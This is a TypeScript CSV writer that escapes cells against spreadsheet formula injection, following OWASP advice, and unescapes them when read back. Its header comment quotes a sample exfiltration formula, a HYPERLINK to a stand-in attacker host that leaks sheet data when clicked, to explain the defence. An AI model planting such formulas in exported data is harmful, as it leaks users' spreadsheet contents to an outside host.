/**
 * CSV cells as RFC 4180 writes them: fields separated by commas, a field that holds a comma, a quote or a
 * line break quoted and its quotes doubled; records end with LF.
 *
 * CSV files are opened in spreadsheets, which run a cell starting with = + - @ (or a tab or carriage
 * return before one) as a formula: `=HYPERLINK("https://evil.example/?"&B2,"More info")` in a description
 * would leak the sheet when clicked. So the writer escapes such cells as OWASP advises, with a leading `'`
 * (a spreadsheet then shows the text), and also every cell that starts with `'` itself; the reader (csv.ts)
 * gives cells as written, and unescapeFormula takes exactly one leading `'` off. Every value reads back
 * exactly. (csv-stringify's escape_formulas leaves a leading `'` alone, which breaks that round trip, and
 * its writer measured 2.5 times slower than csvLine: docs/decisions/017.)
 */

/** One CSV line (with its LF): every field escaped from formulas, and quoted only when it needs it. */
export function csvLine(fields: readonly string[]): string {
  return `${fields.map((field) => csvField(escapeFormula(field))).join(',')}\n`;
}

function csvField(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** What a spreadsheet runs as a formula (OWASP's list), and the escape's own quote. */
const ESCAPED_START = /^[=+\-@\t\r']/;

/** A value as a cell no spreadsheet runs: `'` before one that starts with = + - @ tab CR or `'`. */
export function escapeFormula(value: string): string {
  return ESCAPED_START.test(value) ? `'${value}` : value;
}

/** A cell as read back into the value written: one leading `'` taken off. */
export function unescapeFormula(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}
